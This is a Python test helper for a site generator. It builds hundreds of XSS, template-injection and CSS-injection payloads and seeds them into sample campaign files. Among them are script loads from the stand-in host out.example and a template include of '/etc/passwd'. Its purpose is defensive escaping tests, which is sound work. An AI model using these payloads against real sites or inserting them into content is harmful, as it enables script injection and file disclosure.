"""Texts that would run, load or break out wherever a page lets them, made from kinds; and a workspace full of them."""

import csv
import io
from collections.abc import Iterator
from itertools import cycle, islice, product
from pathlib import Path
from random import Random
from typing import Any

import yaml

from rencana.plan.language.part import PlanPart
from rencana.plan.language.reading import read_part
from rencana.plan.plan import Plan
from rencana.source import read_yaml

PLANS = Path(__file__).parents[2] / "plans"
EXAMPLE = PLANS / "ramadan-dingin-2026"
OUT = "http://out.example"
RUN = "alert(1)"

BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    "</p></div>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</a>",
    "<!--",
)
TAGS = [
    *(f"<script>{RUN}</script>", f"<SCRIPT SRC={OUT}/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    *(
        f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script >",
        f"<svg><script>{RUN}</script></svg>",
        "<script src=data:,alert(1)>",
    ),
    *(
        f"<{tag} {name}={RUN}>"
        for tag in (
            "svg",
            "body",
            "img src=x",
            "video src=x",
            "audio src=x",
            "iframe",
            "input autofocus",
            "details open",
            "marquee",
            "a href=#",
            "button",
            "div tabindex=0",
            "math",
            "object data=x",
            "select autofocus",
            "x",
        )
        for name in (
            "onload",
            "onerror",
            "onfocus",
            "onclick",
            "onmouseover",
            "ontoggle",
            "onstart",
            "onanimationstart",
        )
    ),
    *(
        f"<{tag} {name}='{OUT}/x'>"
        for tag, name in (
            ("img", "src"),
            ("iframe", "src"),
            ("embed", "src"),
            ("object", "data"),
            ("link rel=stylesheet", "href"),
            ("link rel=prefetch", "href"),
            ("video", "poster"),
            ("audio", "src"),
            ("source", "srcset"),
            ("img", "srcset"),
            ("base", "href"),
            ("form", "action"),
            ("input type=image", "src"),
            ("body", "background"),
            ("table", "background"),
            ("track", "src"),
            ("image", "href"),
            ("use", "xlink:href"),
            ("portal", "src"),
        )
    ),
    *(f"<iframe srcdoc='<script>{RUN}</script>'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"),
    *(
        f"<form><button formaction=javascript:{RUN}>x",
        f"<math href=javascript:{RUN}>x</math>",
        "<plaintext>",
        "<xmp>",
        "<noscript>",
    ),
    *(
        f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    ),
    *(f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><img src=x onerror={RUN}></template>"),
    *(
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        "<select><option>",
    ),
]
ATTRIBUTES = [
    f"{quote}{space}{name}={quote}{RUN}"
    for quote in ('"', "'", "`", "")
    for space in (" ", "/", "\n", "\t")
    for name in ("onmouseover", "onfocus autofocus x", "style", "href", "srcdoc", "formaction")
]
SCHEMES = [
    *(
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\tscript:",
        "java&#9;script:",
        "java&NewLine;script:",
        "&#106;avascript:",
    ),
    *(
        "javascript&colon;",
        "&#x6A;avascript:",
        "&#1;javascript:",
        "javascript://a.example/%0a",
        "data:text/html,<script>",
        "vbscript:",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD4=",
        "//out.example/",
        "blob:",
        "file:///",
        "java\\script:",
        "%6aavascript:",
        "view-source:javascript:",
    ),
    *(
        "feed:javascript:",
        "jar:javascript:",
        "\u200bjavascript:",
        "javas\u0131cript:",
        "ｊａｖａｓｃｒｉｐｔ:",
        "livescript:",
        "mocha:",
    ),
]
LINKS = [
    *(
        "[x]({})",
        "[x](<{}>)",
        "![x]({})",
        "<{}>",
        "[x][y]\n\n[y]: {}",
        "[{}]({})",
        '[x](http://a.example "{}")',
        "<a href='{}'>x</a>",
    ),
    *(
        '[x]({} "t")',
        "[![x]({})]({})",
        '<a href="{}">x',
        "<img src='{}'>",
        "{}",
        "[x]({}\n)",
        "\\[x]({})",
        "[x](assets/../{})",
    ),
]
ENTITIES = [
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ),
    *(
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&LT;script&GT;alert(1)",
        "&#0000060script&#0000062alert(1)",
        "%3Cscript%3Ealert(1)",
    ),
    *(
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3ealert(1)",
        "+ADw-script+AD4-alert(1)",
        "&quot; onclick=alert(1) x=&quot;",
    ),
    *(
        "&#34; autofocus onfocus=alert(1)",
        "&apos;-alert(1)-&apos;",
        "&bsol;&quot;;alert(1)//",
        "&lpar;1&rpar;",
        "&zwnj;<script>alert(1)",
    ),
]
TEMPLATES = [
    *(
        "{{7*7}}",
        "{{ cycler.__init__.__globals__ }}",
        "{% raw %}",
        "{% include '/etc/passwd' %}",
        "{# x",
        "{{",
        "}}",
        "{%",
        "${7*7}",
    ),
    *(
        "<%= 7*7 %>",
        "#{7*7}",
        "[[7*7]]",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "`${alert(1)}`",
        "{$smarty}",
    ),
    *(
        "{!! 7*7 !!}",
        "@{7*7}",
        "*{7*7}",
        "~{x}",
        "[% 7*7 %]",
        "{php}alert(1){/php}",
        "{: onclick=alert(1) }",
        "{x|safe}",
        "';alert(1)//",
    ),
    *(
        '";alert(1)//',
        "</script><script>alert(1)//",
        "\\';alert(1)//",
        "*/alert(1)/*",
        "-alert(1)-",
        "]]></script><script>alert(1)",
    ),
]
STYLES = [
    *(
        f"<style>@import '{OUT}/x.css';</style>",
        f"<p style='background:url({OUT}/x)'>x",
        f"<style>*{{background:url({OUT}/x)}}</style>",
    ),
    *(
        "<p style='width:expression(alert(1))'>",
        "<p style='-moz-binding:url(x)'>",
        "<style>@font-face{font-family:x;src:url(x)}</style>",
    ),
    *(
        "<div style='position:fixed;inset:0'>x",
        "{: style='color:red' }",
        f"}}*{{background:url({OUT}/x)}}",
        f"<link rel=stylesheet href={OUT}/x>",
    ),
]
TRICKS = [
    *(
        "＜script＞alert(1)＜/script＞",
        "﹤script﹥alert(1)",
        "<ſcript>alert(1)</ſcript>",
        "<\u200bscript>alert(1)",
        "‹script›alert(1)",
    ),
    *(
        "<sc\u00adript>alert(1)",
        "<img\u00a0src=x\u00a0onerror=alert(1)>",
        "<İmg src=x onerror=alert(1)>",
        "<img src=x oner\u0131or=alert(1)>",
    ),
    *(
        "\u02bcalert(1)\u02bc",
        "\uff02\uff1e<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg onload\u3000=alert(1)>",
        "<\u0130frame src=x>",
    ),
]


def payloads() -> list[str]:
    """Returns all payloads: each kind alone, and behind what closes the place that it stands in."""
    links = [form.replace("{}", f"{scheme}{RUN}") for form, scheme in product(LINKS, SCHEMES)]
    kinds = [*TAGS, *ENTITIES, *TEMPLATES, *STYLES, *TRICKS]
    broken_out = [f"{closing}{text}" for closing, text in product(BREAKS, kinds)]
    return list(dict.fromkeys([*kinds, *ATTRIBUTES, *links, *broken_out]))


def chosen(count: int) -> list[str]:
    """Returns so many payloads, always the same, of every kind."""
    every = payloads()
    Random(0).shuffle(every)
    return every[:count]


def write_workspace(folder: Path, texts: list[str], *, in_place: int = 3) -> int:
    """Writes as many campaigns as texts need, with some in every text of plan, calendar, readings and portfolio."""
    (folder / "plans").mkdir(parents=True)
    (folder / "site" / "docs").mkdir(parents=True)
    (folder / "site" / "docs" / "index.md").write_text("# About\n", encoding="utf-8")
    settings = {
        "site_name": "Test",
        "docs_dir": "docs",
        "site_dir": "public",
        "theme": {"name": "material", "font": False},
        "plugins": ["search", {"rencana": {"on": "2026-03-01", "findings": True}}],
    }
    (folder / "site" / "mkdocs.yml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    supply, campaigns = Supply(texts, in_place), 0
    while not supply.is_used_up:
        campaigns += 1
        _write_campaign(folder / "plans" / f"campaign-{campaigns}", supply)
    portfolio = read_mapping(PLANS / "portfolio.yaml")
    filled = supply.fill(portfolio, {text for text in _leaves(portfolio) if len(text.split()) > 1 and "$" not in text})
    (folder / "plans" / "portfolio.yaml").write_text(
        yaml.safe_dump(filled, allow_unicode=True, sort_keys=False), "utf-8"
    )
    return campaigns


class Supply:
    """Hands out payloads, some for each place, in a circle."""

    def __init__(self, texts: list[str], in_place: int) -> None:
        self._texts, self._count, self._in_place, self._used = cycle(texts), len(texts), in_place, 0

    @property
    def is_used_up(self) -> bool:
        """Tells whether each text has a place."""
        return self._used >= self._count

    def after(self, text: str) -> str:
        """Returns a text with payloads behind its beginning."""
        self._used += self._in_place
        return f"{text[:12]} {' '.join(islice(self._texts, self._in_place))}"

    def fill(self, part: Any, texts: set[str]) -> Any:
        """Returns a structure in which these texts have payloads."""
        if isinstance(part, dict):
            return {key: self.fill(value, texts) for key, value in part.items()}
        if isinstance(part, list):
            return [self.fill(value, texts) for value in part]
        return self.after(part) if part in texts else part


def _write_campaign(folder: Path, supply: Supply) -> None:
    (folder / "readings").mkdir(parents=True)
    content = (EXAMPLE / "plan.yaml").read_bytes()
    plan, _ = read_part(Plan, read_yaml("plan.yaml", content))
    texts = {text for text in texts_of(plan) if len(text.split()) > 1}
    filled = supply.fill(yaml.load(content, Loader=yaml.BaseLoader), texts)
    filled["campaign"]["x-note"] = {"a": supply.after("Own"), "b": [supply.after("Own")]}
    filled["campaign"]["tags"] = ["tag"]
    (folder / "plan.yaml").write_text(yaml.safe_dump(filled, allow_unicode=True, sort_keys=False), encoding="utf-8")
    tables = [(EXAMPLE / "calendar.csv", folder / "calendar.csv", ("title", "copy", "alt"))]
    readings = sorted((EXAMPLE / "readings").glob("*.csv"))
    tables += [(path, folder / "readings" / path.name, ("note",)) for path in readings]
    for source, target, columns in tables:
        rows = list(csv.reader(io.StringIO(source.read_text(encoding="utf-8"))))
        for row in rows[1:]:
            for at, column in enumerate(rows[0]):
                row[at] = supply.after(row[at]) if column in columns else row[at]
        with target.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, lineterminator="\n").writerows(rows)


def read_mapping(path: Path) -> Any:
    """Returns the mapping in a YAML file, its scalars as texts."""
    return yaml.load(path.read_bytes(), Loader=yaml.BaseLoader)


def _leaves(part: Any) -> Iterator[str]:
    if isinstance(part, str):
        yield part
    for value in part.values() if isinstance(part, dict) else part if isinstance(part, list) else ():
        yield from _leaves(value)


def texts_of(value: Any) -> list[str]:
    """Returns the texts of a part of a plan, as its model has them."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, PlanPart):
        return [text for name in type(value).model_fields for text in texts_of(getattr(value, name))]
    if hasattr(value, "values"):
        return [text for part in value.values() for text in texts_of(part)]
    return [text for part in value for text in texts_of(part)] if isinstance(value, tuple) else []
